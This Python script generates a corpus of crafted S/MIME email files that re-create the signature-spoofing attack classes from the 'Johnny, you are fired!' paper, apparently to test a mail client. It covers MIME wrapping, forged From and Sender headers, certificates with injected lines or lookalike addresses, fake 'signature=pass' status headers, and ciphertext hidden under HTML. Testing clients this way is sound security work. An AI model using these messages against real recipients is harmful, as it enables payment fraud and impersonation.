#!/usr/bin/env python3
"""Messages of the classes of "Johnny, you are fired!" (Mueller et al., USENIX Security 2019), written anew from the paper's
description, and relatives: each tries to look signed by alice without having been. In the directory of make_signed.sh,
as johnny/CLASS-name.eml; signed with openssl. The one that passes, untouched.eml, shows that the rest is about the trick.
"""

import base64
import email.utils
import hashlib
import pathlib
import subprocess

import make_signed as tools

out = pathlib.Path("johnny")
out.mkdir(exist_ok=True)
alice, mallory = "Alice <alice@example.org>", "Mallory <carol@example.org>"
good = b"Content-Type: text/plain\r\n\r\nDear Bob, the figures are attached.\r\n"
evil = b"Content-Type: text/plain\r\n\r\nDear Bob, pay 1000 EUR to Mallory.\r\n"


def sign(content, *names, detached=True):
    command = ["openssl", "cms", "-sign", "-binary", "-md", "sha256", "-outform", "DER", "-in", "work/johnny"]
    for name in names:
        command += ["-signer", f"work/{name}.crt", "-inkey", f"work/{name}.key"]
    pathlib.Path("work/johnny").write_bytes(content)
    return subprocess.run(command + ([] if detached else ["-nodetach"]), check=True, stdout=subprocess.PIPE).stdout


def encoded(octets):
    return base64.encodebytes(octets).replace(b"\n", b"\r\n")


def clear(content, cms, boundary=b"=_s", parameters=b"", before=b"", after=b""):
    """A multipart/signed entity."""
    return (b'Content-Type: multipart/signed; protocol="application/pkcs7-signature"' + parameters +
            b'; boundary="' + boundary + b'"\r\n\r\n' + before + b"--" + boundary + b"\r\n" + content + b"\r\n--" + boundary +
            b"\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
            encoded(cms) + b"--" + boundary + b"--\r\n" + after)


def opaque(cms, kind=b"signed-data"):
    return (b"Content-Type: application/pkcs7-mime; smime-type=" + kind + b"; name=smime.p7m\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + encoded(cms))


def multipart(kind, *parts, boundary=b"=_m"):
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return (b"Content-Type: multipart/" + kind + b'; boundary="' + boundary + b'"\r\n\r\n' + body + b"--" + boundary +
            b"--\r\n")


def wrapped(entity, sender=alice):
    return b"Content-Type: message/rfc822\r\n\r\nFrom: " + sender.encode() + b"\r\nSubject: figures\r\n" + entity


def write(name, entity, sender=alice, head=b""):
    fields = [b"From: " + (sender if isinstance(sender, bytes) else sender.encode())] if sender else []
    fields += [b"To: bob@example.org", b"Subject: figures", b"Date: " + email.utils.formatdate().encode(),
               b"MIME-Version: 1.0"]
    (out / f"{name}.eml").write_bytes(head + b"\r\n".join(fields) + b"\r\n" + entity)


signed = clear(good, sign(good, "rsa"))
write("untouched", signed)
inline = opaque(sign(good, "rsa", detached=False))
html = b"Content-Type: text/html\r\n\r\n"

# C1: the signature brings its own content, which is not the one that shows.
inside = sign(good, "rsa", detached=False)
write("C1-other-text", clear(evil, inside))
write("C1-same-text", clear(good, inside))
write("C1-html", clear(html + b"<p>pay Mallory</p>\r\n", inside))
parts = tools.elements(tools.inside(tools.inside(tools.elements(tools.inside(inside))[1])))
empty = tools.sequence(tools.data, tools.der(0xa0, tools.der(4, b"")))
rebuilt = tools.sequence(tools.oid("1.2.840.113549.1.7.2"), tools.der(0xa0, tools.sequence(parts[0], parts[1], empty, *parts[3:])))
write("C1-empty-content", clear(evil, rebuilt))
attributes = tools.der(0x31, *sorted([tools.content_type(), tools.message_digest(good)]))
info = tools.signer_info("rsa", None, octets=attributes)
write("C1-attributes-as-text", clear(attributes, tools.signed_data([info])))
write("C1-attributes-as-content", opaque(tools.signed_data([info], e_content=attributes)))

# C2: one of several signers is not alice, or signs something else.
write("C2-appended", clear(evil, sign(evil, "carol", "self")))
write("C2-prepended", clear(evil, sign(evil, "self", "carol")))


def two(first, second):
    """The SignerInfos of two signed-data in one."""
    one, other = (tools.elements(tools.inside(tools.inside(tools.elements(tools.inside(cms))[1]))) for cms in (first, second))
    certificates = tools.der(0xa0, tools.inside(one[3]), tools.inside(other[3]))
    infos = tools.der(0x31, tools.inside(one[4]), tools.inside(other[4]))
    return tools.sequence(tools.oid("1.2.840.113549.1.7.2"), tools.der(0xa0, tools.sequence(
        one[0], one[1], one[2], certificates, infos)))


write("C2-alice-of-another-text", clear(evil, two(sign(good, "rsa"), sign(evil, "carol"))))
write("C2-mallory-first", clear(evil, two(sign(evil, "carol"), sign(good, "rsa"))))
write("C2-alice-and-invalid", clear(good, two(sign(good, "rsa"), sign(evil, "carol"))))

# C3: no signer at all.
write("C3-detached", clear(evil, tools.signed_data([])))
write("C3-opaque", opaque(tools.signed_data([], e_content=evil)))
write("C3-no-certificates", opaque(tools.signed_data([], e_content=evil, certificates=())))
write("C3-certs-only", opaque(tools.signed_data([]), b"certs-only"))
write("C3-empty-cms", clear(evil, b""))
write("C3-named-signed", opaque(evil))

# C4: who is trusted.
write("C4-self-signed", clear(evil, sign(evil, "self")))
write("C4-another-ca", clear(evil, sign(evil, "untrusted")))
write("C4-expired", clear(evil, sign(evil, "expired")))
write("C4-tls", clear(evil, sign(evil, "tls")))
write("C4-revoked", clear(evil, sign(evil, "revoked")))

# M1 to M4: a part that alice signed, in a message of somebody else.
text = b"Content-Type: text/plain\r\n\r\nPay Mallory.\r\n"
write("M1-after-text", multipart(b"mixed", text, signed))
write("M1-before-text", multipart(b"mixed", signed, text))
write("M1-opaque-after-text", multipart(b"mixed", text, inline))
write("M1-alternative", multipart(b"alternative", signed, html + b"pay"))
write("M2-related", multipart(b"related", html + b'<img src="cid:x">', signed))
write("M2-html-open", multipart(b"mixed", html + b"<div hidden>", signed, html + b"</div>"))
write("M3-forwarded", wrapped(signed))
write("M3-forwarded-in-mixed", multipart(b"mixed", text, wrapped(signed)))
write("M3-attached-inline", multipart(b"mixed", text, b"Content-Disposition: inline\r\n" + wrapped(signed)))
write("M4-nested-signed", multipart(b"signed", signed, text))
write("M4-in-mixed-in-mixed", multipart(b"mixed", multipart(b"mixed", text, signed, boundary=b"=_n")))
write("M4-two-signed", multipart(b"mixed", signed, clear(evil, sign(evil, "self"), boundary=b"=_t")))
write("M4-three-children", signed.replace(b"--=_s--", b"--=_s\r\n" + text + b"--=_s--"))
write("M4-one-child", multipart(b'signed; protocol="application/pkcs7-signature"', signed))
# A header that some readers end at the first line that is no field: what follows is text to them (mutt, Python's email).
for name, line in {"line": b"Pay 1000 EUR to Mallory.", "line-with-colon": b"Dear Bob, do this: pay 1000 EUR to Mallory.",
                   "blank-before-colon": b"Mallory wants : 1000 EUR", "field-with-blank": b"X-Pay : 1000 EUR to Mallory",
                   "no-name": b": pay 1000 EUR to Mallory"}.items():
    write(f"M1-{name}-in-header", signed, head=line + b"\r\n")
    write(f"M1-{name}-in-header-of-opaque", inline, head=line + b"\r\n")
# Lines that end with CR alone, as libmime and JavaMail read them.
for name, end in {"cr": b"\r", "crlfcr": b"\r\n\r"}.items():
    part = end.join([b"", b"--=_s", b"Content-Type: text/plain", b"", b"Pay Mallory.", b"--=_s", b""]).replace(b"\n--", b"\r--")
    write(f"M2-{name}-before", clear(good, sign(good, "rsa"), before=b"x" + part + b"\r\n"))
    write(f"M2-{name}-after", clear(good, sign(good, "rsa"), after=b"x" + part + b"\r\n"))
# Readers that undo an encoding of the whole, or read the boundary otherwise, see other parts.
for encoding in b"quoted-printable", b"base64", b"x-uuencode", b"8bit (\r\n base64":
    write("M4-encoded-" + encoding[:2].decode(), b"Content-Transfer-Encoding: " + encoding + b"\r\n" +
          clear(good, sign(good, "rsa"), before=b"=2D-=_s=0D=0A=0D=0APay Mallory.=0D=0A\r\n"))
for name, said, boundary, other in (("blank", b"=_s ", b"=_s ", b"=_s"), ("quoted-pair", b"=_\\s", b"=_s", b"=_\\s"),
                                    ("encoded-word", b"=?utf-8?q?x?=", b"=?utf-8?q?x?=", b"x")):
    entity = clear(good, sign(good, "rsa"), boundary=boundary,
                   before=b"--" + other + b"\r\n\r\nPay Mallory.\r\n--" + other + b"--\r\n")
    write(f"M4-boundary-{name}", entity.replace(b'boundary="' + boundary + b'"', b'boundary="' + said + b'"', 1))
write("M4-other-first", clear(text + b"\r\n--=_s\r\n" + good, sign(good, "rsa")))

# I1 to I3: who the message says that it is from.
by_mallory = clear(evil, sign(evil, "carol"))
for name, sender in {
        "I1-display-name": '"alice@example.org" <carol@example.org>',
        "I1-display-name-encoded": "=?utf-8?Q?alice=40example.org?= <carol@example.org>",
        "I1-display-name-angle": '"Alice <alice@example.org>" <carol@example.org>',
        "I1-no-brackets": "alice@example.org <carol@example.org>",
        "I1-comment": "carol@example.org (alice@example.org)",
        "I1-nul": b"alice@example.org\0 <carol@example.org>",
        "I1-two-brackets": "<alice@example.org> <carol@example.org>",
        "I2-two-addresses": "carol@example.org, alice@example.org",
        "I2-two-addresses-turned": "alice@example.org, carol@example.org",
        "I2-group": "alice@example.org:carol@example.org;",
        "I2-route": "<@alice@example.org:carol@example.org>",
        "I3-plain": alice,
}.items():
    write(name, by_mallory, sender)
write("I2-two-fields", by_mallory, mallory, b"From: Alice <alice@example.org>\r\n")
write("I2-two-fields-turned", by_mallory, alice, b"From: Mallory <carol@example.org>\r\n")
write("I2-blank-before-colon", by_mallory, mallory, b"From : Alice <alice@example.org>\r\n")
write("I2-eight-bit-name", by_mallory, mallory, b"Fr\xc2\xa0om: Alice <alice@example.org>\r\n")
write("I3-sender", by_mallory, alice, b"Sender: Mallory <carol@example.org>\r\n")
write("I3-no-from", by_mallory, None, b"Sender: Mallory <carol@example.org>\r\n")
write("I3-resent", by_mallory, alice, b"Resent-From: carol@example.org\r\n")
write("I3-no-address", clear(evil, sign(evil, "nobody")))

# What mallory signed with the address of her own, under a From that stands in what she signed and shows another.
for name, sender in {"wide": '"alice\uff20example.org" <carol@example.org>',
                     "encoded": "=?utf-8?Q?alice=40example.org?= <carol@example.org>"}.items():
    protected = b'Content-Type: text/plain; hp="clear"\r\nFrom: ' + sender.encode() + b"\r\nSubject: figures\r\n\r\nPay.\r\n"
    write(f"I1-protected-{name}", opaque(sign(protected, "carol", detached=False)), mallory)

# G1 and U1: a status that the message itself brings.
status = (b"X-Paperknife: encryption=authenticated; layers=signed-data; signature=pass\r\n"
          b"Authentication-Results: paperknife; smime=pass body.smime-identifier=alice@example.org\r\n")
write("U1-header", text, head=status)
write("U1-header-and-broken", clear(evil, sign(good, "rsa")), head=status)
write("U1-header-odd-case", opaque(tools.signed_data([], e_content=status + evil)), head=status.replace(b"X-Pap", b"x-PAP"))
write("G1-protected-status", opaque(sign(status + evil, "self", detached=False)))
subprocess.run(["openssl", "req", "-x509", "-new", "-key", "work/self.key", "-days", "365", "-utf8", "-subj",
                "/CN=a\r\nX-Paperknife: signature=pass\r\n/O=\u202e\u2066", "-addext", "subjectAltName=email:carol@example.org",
                "-out", "work/injected.crt"], check=True)
pathlib.Path("work/injected.key").write_bytes(pathlib.Path("work/self.key").read_bytes())
write("G1-name-with-lines", opaque(sign(evil, "injected", detached=False)))


def person(name, *names):
    """A certificate by the very CA that is trusted, whose alternative names may be anything."""
    extension = tools.sequence(*[tools.der(0x81, one) for one in names])
    pathlib.Path("work/johnny.ext").write_text(f"subjectAltName=DER:{extension.hex()}\n")
    pathlib.Path(f"work/{name}.key").write_bytes(pathlib.Path("work/carol.key").read_bytes())
    subprocess.run(["openssl", "req", "-new", "-key", f"work/{name}.key", "-subj", f"/CN={name}", "-out", "work/johnny.csr"],
                   check=True)
    subprocess.run(["openssl", "x509", "-req", "-in", "work/johnny.csr", "-CA", "ca.crt", "-CAkey", "work/ca.key", "-days", "30",
                    "-set_serial", "0x" + hashlib.sha256(name.encode()).hexdigest()[:30], "-extfile", "work/johnny.ext",
                    "-out", f"work/{name}.crt"], check=True)


# G2: a name in the certificate that breaks out of where it is written, or looks like alice's to who reads carelessly.
for name, names in {
        "G2-address-with-lines": [b"carol@example.org\r\nX-Paperknife: signature=pass\r\nFrom: alice@example.org"],
        "G2-address-with-results": [b"carol@example.org; smime=pass body.smime-identifier=alice@example.org"],
        "G2-quotes": [b'"carol\\"@example.org smime=pass'],
        "I1-nul-in-certificate": [b"alice@example.org\0.example.com"],
        "I1-nul-after": [b"alice@example.org\0"],
        "I1-blanks-in-certificate": [b" alice@example.org", b"alice@example.org ", b"\talice@example.org"],
        "I1-list-in-certificate": [b"alice@example.org,carol@example.org", b"alice@example.org carol@example.org"],
        "I1-brackets-in-certificate": [b"<alice@example.org>", b"Alice <alice@example.org>"],
        "I1-subdomain": [b"alice@example.org.example.com", b"alice@mail.example.org", b"alice@example.org."],
        "I1-domain-alone": [b"example.org", b"@example.org", b".example.org", b"*@example.org"],
        "I1-encoded-word": [b"=?utf-8?Q?alice=40example.org?=@example.com"],
        "I1-encoded-word-with-nul": [b"=?utf-8?b?YWxpY2VAZXhhbXBsZS5vcmcA?=@example.com"],
        "I1-turned": ["\u202emoc.elpmaxe@\u202c@example.com".encode(), "alice\u202e@example.com".encode()],
        "I1-wide-at": ["alice\uff20example.org@example.com".encode()],
        "I1-hidden": ["alice\u200b@example.org".encode(), "alice\u00ad@example.org".encode()],
        "I1-eight-bit-in-certificate": [b"alice@ex\xd0\xb0mple.org"],
}.items():
    person(name, *names)
    write(name, clear(evil, sign(evil, name)))
    if name in ("I1-encoded-word", "I1-encoded-word-with-nul", "I1-turned", "I1-wide-at", "I1-hidden"):
        for number, one in enumerate(names):  # from that very address, which shows as another
            write(f"{name}-{number}", clear(evil, sign(evil, name)), one)

# Covert content: what is encrypted for bob, under a message of the attacker's, who wants to be told what it says.
secret = b"Content-Type: text/plain\r\n\r\nThe secret of Bob.\r\n"
pathlib.Path("work/johnny").write_bytes(secret)
subprocess.run(["openssl", "cms", "-encrypt", "-binary", "-aes256", "-in", "work/johnny", "-outform", "DER", "-out",
                "work/johnny.env", "work/bob.crt"], check=True)
envelope = opaque(pathlib.Path("work/johnny.env").read_bytes(), b"enveloped-data")
write("X1-ciphertext-in-signed", clear(envelope, sign(envelope, "rsa")))
write("X1-ciphertext-in-opaque", opaque(sign(envelope, "rsa", detached=False)))
both = multipart(b"mixed", text, envelope)
write("X2-ciphertext-in-mixed-signed-by-mallory", clear(both, sign(both, "carol")))
write("X2-ciphertext-beside", multipart(b"mixed", envelope, text))
hidden = html + b'<p>Shall we meet?</p><div style="display:none">'
write("X3-below-hiding-html", multipart(b"mixed", hidden, envelope, html + b"</div>"))
write("X3-related-to-html", multipart(b"related", html + b'<p>Shall we meet?</p><img src="cid:x" hidden>',
                                      b"Content-ID: <x>\r\n" + envelope))
write("X3-far-below", multipart(b"mixed", text[:-2] + b"\r\n" * 200, envelope))
write("X3-other-alternative", multipart(b"alternative", envelope, text))
write("X3-other-alternative-last", multipart(b"alternative", text, envelope))
write("X4-attached", multipart(b"mixed", text, b"Content-Disposition: attachment; filename=smime.p7m\r\n" + envelope))
write("X4-forwarded", wrapped(envelope))
write("X4-forwarded-beside", multipart(b"mixed", text, wrapped(envelope)))
write("X4-in-mixed-in-mixed", multipart(b"mixed", text, multipart(b"mixed", envelope, boundary=b"=_n")))
write("X4-beside-a-signed-part", multipart(b"mixed", signed, envelope))
inner = multipart(b"mixed", text, envelope)
write("X4-in-what-mallory-signed", opaque(sign(inner, "carol", detached=False)))
pathlib.Path("work/johnny").write_bytes(inner)
subprocess.run(["openssl", "cms", "-encrypt", "-binary", "-aes256", "-in", "work/johnny", "-outform", "DER", "-out",
                "work/johnny.env", "work/bob.crt"], check=True)
write("X4-in-what-mallory-encrypted", opaque(pathlib.Path("work/johnny.env").read_bytes(), b"enveloped-data"))
